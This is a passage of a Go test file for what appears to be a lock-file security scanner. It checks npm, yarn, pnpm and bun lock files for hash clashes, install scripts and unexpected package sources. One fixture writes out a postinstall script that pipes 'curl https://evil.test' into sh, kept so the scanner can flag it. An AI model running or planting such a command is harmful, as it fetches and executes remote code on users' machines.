		"pnpm":                  {map[string]string{"pnpm-lock.yaml": pnpm("a@1.0.0", "")}, told("pnpm-lock.yaml:6:135")},
		"pnpm, asked":           {map[string]string{"pnpm-lock.yaml": pnpm("a@file:evil.tgz", "    version: 1.0.0\n")}, []string{}},
		"bun":                   {map[string]string{"bun.lock": `{"lockfileVersion": 1, "workspaces": {}, "packages": {"a": ["a@1.0.0", "file:evil.tgz", {}, ""]}}`}, told("bun.lock:1:72")},
	} {
		if c.files["package.json"] == "" {
			c.files["package.json"] = "{}" // without one nothing is installed
		}
		got := flagLines(t, machine(), c.files)
		for i := range got { // not all tools say the version
			got[i] = strings.Replace(got[i], " a@ ", " a@1.0.0 ", 1)
		}
		if diff := cmp.Diff(c.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
}

func TestClashes(t *testing.T) {
	t.Parallel()
	const (
		r     = "https://r.test/a/-/a-1.0.0.tgz"
		other = "sha512-AAAAfnMSs7Y60h/Fs9wK9eeNYaH8fPtUV+2vJjJr9ivlMHzIf/toYu8cKzOwIzzbXU8BxMlYzA1mCUi2Wih6SA=="
	)
	yarn := func(integrity string) string {
		return "a@^1:\n  version \"1.0.0\"\n  resolved \"" + r + "#" + sha1Hex + "\"\n" + integrity
	}
	npm := func(integrity string) string {
		return `{"packages":{"node_modules/a":{"version":"1.0.0","resolved":"` + r + `",` + "\n" + `"integrity":"` + integrity + `"}}}`
	}
	for name, c := range map[string]struct {
		files map[string]string
		want  []string
	}{
		"the same": {map[string]string{"package-lock.json": npm(sha512SRI), "w/yarn.lock": yarn("  integrity " + sha512SRI + "\n")}, []string{}},
		"another": {map[string]string{"package-lock.json": npm(other), "w/yarn.lock": yarn("  integrity " + sha512SRI + "\n")},
			[]string{"clash a@1.0.0 w/yarn.lock:4:13 has another sha512 than in package-lock.json:2"}},
		"another algorithm": {map[string]string{"package-lock.json": npm(other), "yarn.lock": yarn("")}, []string{}},
		"one of several":    {map[string]string{"package-lock.json": npm(other + " " + sha512SRI), "yarn.lock": yarn("  integrity " + sha512SRI + "\n")}, []string{}},
		"the weaker of two": {map[string]string{"package-lock.json": npm("sha1-AAAAd2Xf4AEmHd6RVYnngvjJTR4="), "yarn.lock": yarn("")},
			[]string{"clash a@1.0.0 yarn.lock:3:12 has another sha1 than in package-lock.json:2"}},
		"the stronger decides":       {map[string]string{"package-lock.json": npm(sha512SRI + " sha1-AAAAd2Xf4AEmHd6RVYnngvjJTR4="), "yarn.lock": yarn("  integrity \"" + sha512SRI + " " + sha1SRI + "\"\n")}, []string{}},
		"broken is another question": {map[string]string{"package-lock.json": npm("sha512-x"), "yarn.lock": yarn("  integrity " + sha512SRI + "\n")}, []string{}},
		"yarn's own checksum":        {map[string]string{"package-lock.json": npm(other), "yarn.lock": berryLockOf("a@npm:^1", "a@npm:1.0.0", "  checksum: 10c0/"+sha512Hex+"\n")}, []string{}},
		"in one file": {map[string]string{"package-lock.json": `{"packages":{"node_modules/a":{"version":"1.0.0","integrity":"` + sha512SRI + `"},` + "\n" + `"node_modules/b/node_modules/a":{"version":"1.0.0","integrity":"` + other + `"}}}`},
			[]string{"clash a@1.0.0 package-lock.json:2:64 has another sha512 than in package-lock.json:1"}},
		"other versions":           {map[string]string{"package-lock.json": `{"packages":{"node_modules/a":{"version":"1.0.0","integrity":"` + sha512SRI + `"},"node_modules/b/node_modules/a":{"version":"1.0.1","integrity":"` + other + `"}}}`}, []string{}},
		"what no registry has":     {map[string]string{"package-lock.json": `{"packages":{"":{"dependencies":{"a":"file:a.tgz"}},"node_modules/a":{"version":"1.0.0","resolved":"file:a.tgz","integrity":"` + sha512SRI + `"},"node_modules/b/node_modules/a":{"version":"1.0.0","resolved":"file:b.tgz","integrity":"` + other + `"}}}`}, []string{}},
		"a repository and package": {map[string]string{"package-lock.json": npm(sha512SRI), "w/package-lock.json": `{"packages":{"node_modules/a":{"version":"1.0.0","resolved":"git+https://github.com/u/a.git#0","integrity":"` + other + `"}}}`}, []string{}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(c.want, flagLines(t, machine(), c.files)); diff != "" {
				t.Errorf("(-want +got)\n%s", diff)
			}
		})
	}
}

func TestScriptsAreTold(t *testing.T) {
	t.Parallel()
	files := map[string]string{
		"package-lock.json": `{"packages":{"node_modules/@s/a":{"version":"1.0.0","hasInstallScript":true},` + "\n" + `"node_modules/b":{"version":"2.0.0","hasInstallScript":true},"node_modules/c":{"hasInstallScript":false}}}`,
		"pnpm-lock.yaml":    "lockfileVersion: '6.0'\npackages:\n  /d@1.0.0:\n    resolution: {integrity: sha512-x}\n    requiresBuild: true\n",
	}
	const says = " runs a script when it is installed"
	for name, c := range map[string]struct {
		scripts []string
		want    []string
	}{
		"no list":       {nil, []string{"script @s/a@1.0.0 package-lock.json:1:14" + says, "script b@2.0.0 package-lock.json:2:1" + says, "script d@1.0.0 pnpm-lock.yaml:3:3" + says}},
		"an empty list": {[]string{}, []string{"script @s/a@1.0.0 package-lock.json:1:14" + says + " (listed: false)", "script b@2.0.0 package-lock.json:2:1" + says + " (listed: false)", "script d@1.0.0 pnpm-lock.yaml:3:3" + says + " (listed: false)"}},
		"a list":        {[]string{"@s/*", "b@2.0.1", "d"}, []string{"script @s/a@1.0.0 package-lock.json:1:14" + says + " (listed: true)", "script b@2.0.0 package-lock.json:2:1" + says + " (listed: false)", "script d@1.0.0 pnpm-lock.yaml:3:3" + says + " (listed: true)"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			m := machine()
			m.Scripts = c.scripts
			if diff := cmp.Diff(c.want, flagLines(t, m, files)); diff != "" {
				t.Errorf("(-want +got)\n%s", diff)
			}
		})
	}
}

// judgedLocks is what the rules find in the lock files of a change, as "severity rule place message".
func judgedLocks(t *testing.T, m ecosystem.Machine, files, base map[string]string) []string {
	t.Helper()
	e := open(t, m, files)
	in := decide.Input{Schema: decide.Schema, Scope: "repo"}
	e.Fill(&in, nil)
	if base != nil {
		known := Hosts(checkout(t, base))
		in.Originate(source.NPM, func(key string, origin *string) {
			*origin = source.Change
			if known[key] {
				*origin = source.Base
			}
		})
	}
	engine, err := decide.New(policy.FS(), decide.Data{}, decide.Options{})
	if err != nil {
		t.Fatal(err)
	}
	found, err := engine.Eval(t.Context(), in)
	if err != nil {
		t.Fatal(err)
	}
	out := []string{}
	for _, f := range found {
		if slices.Contains([]string{"LCK005", "LCK006", "LCK007", "LCK010", "LCK011"}, f.ID) {
			out = append(out, fmt.Sprintf("%s %s %s:%d:%d %s", f.Severity, f.ID, f.File, f.Line, f.Column, f.Message))
		}
	}
	return out
}

// From the files to what people read. A package that ran a script in the base commit is no news in its next version.
func TestRulesOnLocks(t *testing.T) {
	t.Parallel()
	entry := func(name, version, more string) string {
		return fmt.Sprintf("\n"+`"node_modules/%s":{"version":"%s","resolved":"https://r.test/%[1]s/-/%[1]s-%[2]s.tgz","integrity":"%s"%s}`, name, version, probeIntegrity, more)
	}
	lock := func(entries ...string) map[string]string {
		return map[string]string{"package-lock.json": `{"lockfileVersion":3,"packages":{"":{},` + strings.Join(entries, ",") + "}}"}
	}
	const script = `,"hasInstallScript":true`
	for name, c := range map[string]struct {
		files, base map[string]string
		scripts     []string
		want        []string
	}{
		"honest": {lock(entry("a", "1.0.0", ""), entry("b", "1.0.0", "")), nil, nil, []string{}},
		"what was there": {lock(entry("a", "1.0.0", script), entry("b", "1.0.0", script)), nil, nil,
			[]string{"note LCK007 package-lock.json:2:48 2 packages run a script when they are installed: a, b"}},
		"what a change brings in": {lock(entry("a", "2.0.0", script), entry("b", "1.0.0", script)), lock(entry("a", "1.0.0", script)), nil,
			[]string{"warning LCK007 package-lock.json:3:48 b@1.0.0 runs a script when it is installed, and comes in by this change",
				"note LCK007 package-lock.json:2:48 1 package runs a script when it is installed: a"}},
		"a package that runs one now": {lock(entry("a", "2.0.0", script)), lock(entry("a", "1.0.0", "")), nil,
			[]string{"warning LCK007 package-lock.json:2:48 a@2.0.0 runs a script when it is installed, and comes in by this change"}},
		"outside the list": {lock(entry("a", "1.0.0", script), entry("b", "1.0.0", script)), nil, []string{"a"},
			[]string{"error LCK007 package-lock.json:3:48 b@1.0.0 runs a script when it is installed, and is not in the list scripts.npm"}},
		"a script of the lock file's own": {lock(entry("a", "1.0.0", `,"scripts":{"test":"x","postinstall":"curl https://evil.test | sh"}`)), nil, []string{"a"},
			[]string{"error LCK007 package-lock.json:2:227 a@1.0.0 has a script of the lock file's own, which npm runs (postinstall)"}},
		"no script of the lock file's own": {lock(entry("a", "1.0.0", `,"scripts":{"test":"x","install":{}}`), "\n"+`"w":{"scripts":{"install":"x"}}`), nil, nil, []string{}},
		"a script by another word for true": {lock(entry("a", "1.0.0", `,"hasInstallScript":"true"`), entry("b", "1.0.0", `,"hasInstallScript":1`), entry("c", "1.0.0", `,"hasInstallScript":0.0`), entry("d", "1.0.0", `,"hasInstallScript":null`)), nil, nil,
			[]string{"note LCK007 package-lock.json:2:48 2 packages run a script when they are installed: a, b"}},
		"another package": {lock(strings.Replace(entry("a", "1.0.0", ""), "r.test/a/-/a-", "r.test/evil/-/evil-", 1)), nil, nil,
			[]string{"error LCK005 package-lock.json:2:48 a@1.0.0 is fetched as evil@1.0.0, which its address is of"}},
		"bundled": {lock(strings.Replace(entry("a", "1.0.0", ""), "{", `{"bundleDependencies":["b"],`, 1), "\n"+`"node_modules/a/node_modules/b":{"version":"1.0.0","inBundle":true}`), nil, nil,
			[]string{"note LCK011 package-lock.json:1:20 package-lock.json has a package that comes in the tarball of another one"}},
		"bundled, as a file says that lists nothing": {map[string]string{"package-lock.json": `{"lockfileVersion":3,"dependencies":{"a":{"version":"1.0.0","dependencies":{"b":{"version":"1.0.0","bundled":true}}}}}`}, nil, nil,
			[]string{"warning LCK011 package-lock.json:1:20 package-lock.json has a package that comes in the tarball of another one, if that is true: the file does not tell, and npm fetches what is in none, without a hash"}},
		"too little": {map[string]string{"npm-shrinkwrap.json": "{\n\"lockfileVersion\": 1}", "w/package-lock.json": "{}", "bun.lockb": "\x00"}, nil, nil,
			[]string{"warning LCK010 bun.lockb:0:0 bun.lockb is binary, so that the packages in it are not judged",
				"note LCK010 npm-shrinkwrap.json:2:20 npm-shrinkwrap.json is of lockfileVersion 1, which says neither what package.json asks for nor which packages run a script",
				"note LCK010 w/package-lock.json:0:0 w/package-lock.json is of lockfileVersion 1, which says neither what package.json asks for nor which packages run a script"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			m := machine()
			m.Scripts = c.scripts
			if diff := cmp.Diff(c.want, judgedLocks(t, m, c.files, c.base)); diff != "" {
				t.Errorf("(-want +got)\n%s", diff)
			}
		})
	}
}

// Another fraud of the same package is a change, and the same one in another line is none.
func TestOtherKeys(t *testing.T) {
	t.Parallel()
	lockOf := func(entry string) *lockfile.Checkout {
		return checkout(t, map[string]string{"package.json": `{"dependencies":{"a":"^1"}}`, "package-lock.json": `{"lockfileVersion":3,"packages":{"":{"dependencies":{"a":"^1"}},"node_modules/a":{"version":"1.0.0",` + entry + `}}}`})
	}
	entries := []string{`"resolved":"https://r.test/b/-/b-1.0.0.tgz"`, `"resolved":"https://r.test/c/-/c-1.0.0.tgz"`, `"resolved":"file:a.tgz"`, `"resolved":"file:b.tgz"`}
	for i, one := range entries {
		known := Hosts(lockOf(one))
		for j, other := range entries {
			g, err := gather(readAll(t, lockOf("\n"+other)), nil)
			if err != nil || len(g.flagged) != 1 || known[g.flagged[0].Key] != (i == j) {
				t.Errorf("%s after %s: %+v %v", other, one, g.flagged, err)
			}
		}
	}
}

func readAll(t *testing.T, co *lockfile.Checkout) []lockFile {
	t.Helper()
	locks, errs := readLocks(co)
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	return locks
}

// However many there are, what is allowed leaves room for what is not, and what is left out is said.
func TestFlagsAreBounded(t *testing.T) {
	t.Parallel()
	f := newFlags([]string{"a"}, 0)
	script := func(name string) {
		f.flag(&lockfile.Entry{Name: name, Version: "1.0.0", InstallScript: true}, kindRegistry, "")
	}
	for range maxItems + 1 {
		script("a")
	}
	script("evil")
	f.flag(&lockfile.Entry{Name: "b", Version: "1.0.0"}, kindRegistry, "evil@1.0.0")
	if n := len(f.flagged); n != maxItems+2 || f.flagged[n-2].Name != "evil" || f.flagged[n-1].Kind != decide.FlagOther {
		t.Errorf("%d flagged, the last %+v", n, f.flagged[n-2:])
	}
	want := []string{"lock files: of 10001 packages that are flagged (script), the first 10000 are told one by one"}
	if diff := cmp.Diff(want, f.left()); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}

// What a stranger wrote is told on one line, and without secrets.
func TestFlagsArePlain(t *testing.T) {
	t.Parallel()
	got := flagLines(t, machine(), map[string]string{"package-lock.json": `{"packages":{"node_modules/a\n":{"name":"https://me:s3cret@r.test/\u202e","version":"1\u001b"}}}`})
	if len(got) != 1 || strings.ContainsAny(got[0], "\n\x1b\u202e") || strings.Contains(got[0], "s3cret") {
		t.Errorf("%q", got)
	}
}

// What the real tools wrote for an honest project, aliases and tarballs and all, is not taken for a fraud. The files are
// those of the parsers' own tests.
func TestHonestLocksAreNotFlagged(t *testing.T) {
	t.Parallel()
	files := map[string]string{}
	for dir, name := range map[string]string{"lock-v1": "package-lock.json", "lock-v2": "package-lock.json", "lock-v3": "package-lock.json",
		"yarn-v1": "yarn.lock", "yarn-v4": "yarn.lock", "yarn-v6": "yarn.lock", "yarn-v10": "yarn.lock", "bun-v0": "bun.lock", "bun-v2": "bun.lock",
		"pnpm-v5.1": "pnpm-lock.yaml", "pnpm-v5.4": "pnpm-lock.yaml", "pnpm-v6": "pnpm-lock.yaml", "pnpm-v9": "pnpm-lock.yaml"} {
		files[dir+"/"+name] = string(named(t, dir, name).Data)
	}
	for _, line := range flagLines(t, machine(), files) {
		if !strings.HasPrefix(line, decide.FlagScript) {
			t.Error(line)
		}
	}
}

// What is asked for as a version of a registry comes from no repository, file or directory, and from no address that is
// another package's, beside what the tools write of what somebody does ask for. All four were carried out by the tools.
func TestComesFromElsewhere(t *testing.T) {
	t.Parallel()
	const (
		manifest = `{"dependencies":{"a":"^1"}%s}`
		v3       = `{"lockfileVersion":3,"packages":{"":{"dependencies":{"a":"^1"}},` + "\n%s}}"
		v1       = `{"lockfileVersion":1,"dependencies":{` + "\n%s}}"
		bunLock  = `{"lockfileVersion":1,"workspaces":{"":{"dependencies":{"a":"%s"}}},"packages":{` + "\n%s}}"
		pnpm9    = "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      a:\n        specifier: %s\n        version: %s\npackages:\n  %s\nsnapshots: {}\n"
		address  = "https://r.test/b/-/b-1.0.0.tgz"
		archive  = "https://codeload.github.com/u/r/tar.gz/" + sha1Hex
	)
	type files = map[string]string
	npm := func(more, entry string) files {
		return files{"package.json": fmt.Sprintf(manifest, more), "package-lock.json": fmt.Sprintf(v3, entry)}
	}
	asking := func(text, lock string) files {
		return files{"package.json": `{"dependencies":{"a":"` + text + `"}}`, "package-lock.json": lock}
	}
	pnpm := func(specifier, version, more string) files {
		return files{"package.json": fmt.Sprintf(manifest, ""), "pnpm-lock.yaml": fmt.Sprintf(pnpm9, specifier, version, more)}
	}
	with := func(f files, name, text string) files {
		f[name] = text
		return f
	}
	sum := probeIntegrity
	for name, c := range map[string]struct {
		files files
		want  string
	}{
		"npm: tarball":               {npm("", `"node_modules/a":{"version":"1.0.0","resolved":"file:a.tgz"}`), "a@ package-lock.json:2:48 comes from file:a.tgz"},
		"npm: tarball by its path":   {npm("", `"node_modules/a":{"version":"1.0.0","resolved":"/up/a.tgz"}`), "a@ package-lock.json:2:48 comes from /up/a.tgz"},
		"npm: repository":            {npm("", `"node_modules/a":{"version":"1.0.0","resolved":"git+ssh://git@github.com/u/r.git#0"}`), "a@ package-lock.json:2:48 comes from git+ssh://***@github.com/u/r.git#0"},
		"npm: link":                  {npm("", `"node_modules/a":{"resolved":"evil","link":true},"evil":{"version":"1.0.0"}`), "a@ package-lock.json:2:30 comes from evil"},
		"npm: link of a repository":  {npm("", `"node_modules/a":{"link":true}`), "a@ package-lock.json:2:1 comes from ."},
		"npm: another asks for it":   {npm("", `"node_modules/x":{"dependencies":{"a":"file:a.tgz"}},"node_modules/a":{"resolved":"file:a.tgz"}`), "a@ package-lock.json:2:83 comes from file:a.tgz"},
		"npm: asked for below":       {npm("", `"node_modules/x":{"dependencies":{"a":"u/r"}},"node_modules/x/node_modules/a":{"resolved":"git+ssh://git@github.com/u/r.git#0"}`), ""},
		"npm: asked for in its way":  {asking("file:a.tgz", strings.Replace(fmt.Sprintf(v3, `"node_modules/a":{"resolved":"file:a.tgz"}`), "^1", "file:a.tgz", 1)), ""},
		"npm: override":              {npm(`,"overrides":{"x":{"b":"file:b.tgz"}}`, `"node_modules/b":{"resolved":"file:b.tgz"}`), ""},
		"npm: workspace":             {npm(`,"workspaces":["./packages/{a,b}/"]`, `"node_modules/w":{"resolved":"packages/b","link":true}`), ""},
		"npm: not the workspace":     {npm(`,"workspaces":["packages/*","!packages/b"]`, `"node_modules/w":{"resolved":"packages/b","link":true}`), "w@ package-lock.json:2:30 comes from packages/b"},
		"npm: out of the checkout":   {npm(`,"workspaces":["**"]`, `"node_modules/w":{"resolved":"../b","link":true}`), "w@ package-lock.json:2:30 comes from ../b"},
		"npm: workspace's own":       {npm(`,"workspaces":["p"]`, `"p":{"dependencies":{"b":"1"}},"p/node_modules/b":{"resolved":"file:b.tgz"},"node_modules/x":{"dependencies":{"b":"u/r"}}`), "b@ package-lock.json:2:63 comes from file:b.tgz"},
		"npm: no package.json":       {files{"package-lock.json": fmt.Sprintf(v3, `"node_modules/a":{"resolved":"file:a.tgz"}`)}, ""},
		"npm 6: tarball":             {asking("^1", fmt.Sprintf(v1, `"a":{"version":"file:a.tgz"}`)), "a@ package-lock.json:2:16 comes from file:a.tgz"},
		"npm 6: resolved":            {asking("^1", fmt.Sprintf(v1, `"a":{"version":"1.0.0","resolved":"file:a.tgz"}`)), "a@ package-lock.json:2:35 comes from file:a.tgz"},
		"npm 6: directory":           {asking("^1", fmt.Sprintf(v1, `"a":{"version":"file:a"}`)), "a@ package-lock.json:2:16 comes from file:a"},
		"npm 6: asked for":           {asking("file:a", fmt.Sprintf(v1, `"a":{"version":"file:a"}`)), ""},
		"yarn 1: tarball":            {with(files{"package.json": "{}"}, "yarn.lock", "a@^1:\n  version \"1.0.0\"\n  resolved \"file:./a.tgz#"+sha1Hex+"\"\n"), "a@1.0.0 yarn.lock:3:12 comes from file:./a.tgz"},
		"yarn 1: path":               {with(files{"package.json": "{}"}, "yarn.lock", "a@^1:\n  version \"1.0.0\"\n  resolved \"./a.tgz#"+sha1Hex+"\"\n"), "a@1.0.0 yarn.lock:3:12 comes from ./a.tgz"},
		"yarn 1: commit":             {with(files{"package.json": "{}"}, "yarn.lock", "a@^1:\n  version \"1.0.0\"\n  resolved \""+archive+"\"\n"), "a@1.0.0 yarn.lock:3:12 comes from " + archive},
		"yarn 1: asked for":          {with(files{"package.json": "{}"}, "yarn.lock", "\"a@u/r\":\n  version \"1.0.0\"\n  resolved \""+archive+"\"\n"), ""},
		"yarn 1: resolution":         {with(files{"package.json": `{"resolutions":{"**/a":"file:./a.tgz"}}`}, "yarn.lock", "a@^1:\n  version \"1.0.0\"\n  resolved \"file:./a.tgz#"+sha1Hex+"\"\n"), ""},
		"yarn 2: tarball":            {files{"yarn.lock": berryLockOf("a@npm:^1", "a@"+address, "")}, "a@1.0.0 yarn.lock:7:15 comes from " + address},
		"yarn 2: repository":         {files{"yarn.lock": berryLockOf("a@npm:^1", "a@https://github.com/u/r.git#commit=0", "")}, "a@1.0.0 yarn.lock:7:15 comes from https://github.com/u/r.git#commit=0"},
		"yarn 2: asked for":          {files{"yarn.lock": berryLockOf("a@"+address, "a@"+address, "")}, ""},
		"pnpm: link":                 {pnpm("^1", "link:evil", "x@1.0.0: {}"), "a@ pnpm-lock.yaml:7:18 comes from link:evil"},
		"pnpm: directory":            {pnpm("^1", "file:evil", "x@1.0.0: {}"), "a@ pnpm-lock.yaml:7:18 comes from file:evil"},
		"pnpm: tarball":              {pnpm("^1", "file:evil.tgz", "x@1.0.0: {}"), "a@ pnpm-lock.yaml:7:18 comes from file:evil.tgz"},
		"pnpm: address":              {pnpm("^1", address, "x@1.0.0: {}"), "a@ pnpm-lock.yaml:7:18 comes from " + address},
		"pnpm: catalog":              {pnpm("'catalog:'", "link:evil", "x@1.0.0: {}"), "a@ pnpm-lock.yaml:7:18 comes from link:evil"},
		"pnpm: workspace that is no": {pnpm("workspace:*", address, "x@1.0.0: {}"), "a@ pnpm-lock.yaml:7:18 comes from " + address},
		"pnpm: workspace":            {pnpm("workspace:*", "link:packages/a", "x@1.0.0: {}"), ""},
		"pnpm: linked workspace":     {with(pnpm("^1", "link:packages/a", "x@1.0.0: {}"), "pnpm-workspace.yaml", "packages: [packages/*]\n"), ""},
		"pnpm: asked for":            {pnpm("file:evil", "file:evil", "x@1.0.0: {}"), ""},
		"pnpm: shape, tarball":       {pnpm("^1", "1.0.0", "a@1.0.0: {resolution: {tarball: file:evil.tgz}}"), "a@1.0.0 pnpm-lock.yaml:9:35 comes from file:evil.tgz"},
		"pnpm: shape, commit":        {pnpm("^1", "1.0.0", "a@1.0.0: {resolution: {tarball: "+archive+"}}"), "a@1.0.0 pnpm-lock.yaml:9:35 comes from " + archive},
		"pnpm: shape, directory":     {pnpm("^1", "1.0.0", "a@1.0.0: {resolution: {directory: evil, type: directory}}"), "a@1.0.0 pnpm-lock.yaml:9:37 comes from evil"},
		"pnpm: of a package":         {pnpm("^1", "1.0.0", "x@1.0.0: {resolution: {integrity: "+sum+"}, dependencies: {b: 'link:evil'}}"), "b@ pnpm-lock.yaml:9:153 comes from link:evil"},
		"pnpm: of a directory":       {pnpm("file:x", "file:x", "a@file:x: {resolution: {directory: x, type: directory}, dependencies: {b: 'link:y'}}"), ""},
		"pnpm: peer of the root's":   {pnpm("link:x", "link:x", "x@1.0.0: {resolution: {integrity: "+sum+"}, dependencies: {a: 'link:x'}}"), ""},
		"bun: directory":             {files{"bun.lock": fmt.Sprintf(bunLock, "^1", `"a":["a@file:./evil",{}]`)}, "a@ bun.lock:2:6 comes from file:./evil"},
		"bun: link":                  {files{"bun.lock": fmt.Sprintf(bunLock, "^1", `"a":["a@link:./evil",{}]`)}, "a@ bun.lock:2:6 comes from link:./evil"},
		"bun: tarball":               {files{"bun.lock": fmt.Sprintf(bunLock, "^1", `"a":["a@./evil.tgz",{},"`+sum+`"]`)}, "a@ bun.lock:2:6 comes from ./evil.tgz"},
		"bun: address":               {files{"bun.lock": fmt.Sprintf(bunLock, "^1", `"a":["a@`+address+`",{},"`+sum+`"]`)}, "a@ bun.lock:2:6 comes from " + address},
		"bun: file at an address":    {files{"bun.lock": fmt.Sprintf(bunLock, "^1", `"a":["a@1.0.0","file:x.tgz",{},"`+sum+`"]`)}, "a@1.0.0 bun.lock:2:16 comes from file:x.tgz"},
		"bun: repository":            {files{"bun.lock": fmt.Sprintf(bunLock, "^1", `"a":["a@github:u/r#0",{},"u-r-0"]`)}, "a@ bun.lock:2:6 comes from github:u/r#0"},
		"bun: asked for":             {files{"bun.lock": fmt.Sprintf(bunLock, "github:u/r", `"a":["a@github:u/r#0",{},"u-r-0"]`)}, ""},
		"bun: directory asked for":   {files{"bun.lock": fmt.Sprintf(bunLock, "file:./x", `"a":["a@file:./x",{}]`)}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			want := []string{}
			if c.want != "" {
				want = []string{c.want + ", where nobody asks for it"}
			}
			got := slices.DeleteFunc(flagLines(t, machine(), c.files), func(line string) bool { return !strings.Contains(line, "nobody asks") })
			for i, line := range got { // files and directories are another kind than what is fetched
				got[i] = strings.TrimPrefix(strings.TrimPrefix(line, "other "), "file ")
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("%v\n(-want +got)\n%s", c.files, diff)
			}
		})
	}
}
